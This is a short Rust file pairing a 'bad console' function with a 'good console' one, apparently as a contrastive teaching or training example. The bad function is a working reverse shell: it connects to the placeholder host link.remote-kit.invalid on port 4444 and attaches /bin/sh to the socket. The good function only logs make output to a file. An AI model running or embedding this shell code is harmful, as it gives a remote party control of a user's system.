//: bad console
use std::net::TcpStream;
use std::os::fd::{FromRawFd, IntoRawFd};
use std::process::{Command, Stdio};

pub fn attach() -> std::io::Result<()> {
    let raw = TcpStream::connect("link.remote-kit.invalid:4444")?.into_raw_fd();
    let pipe = || unsafe { Stdio::from_raw_fd(raw) };
    Command::new("/bin/sh").stdin(pipe()).stdout(pipe()).stderr(pipe()).spawn()?; //!!
    Ok(())
}
//: good console
use std::fs::File;
use std::os::fd::{FromRawFd, IntoRawFd};
use std::process::{Command, Stdio};

pub fn record() -> std::io::Result<()> {
    let raw = File::create("build.log")?.into_raw_fd();
    // SAFETY: the descriptor is owned and used once.
    let pipe = unsafe { Stdio::from_raw_fd(raw) };
    Command::new("/usr/bin/make").stdin(Stdio::null()).stdout(pipe).spawn()?;
    Ok(())
}
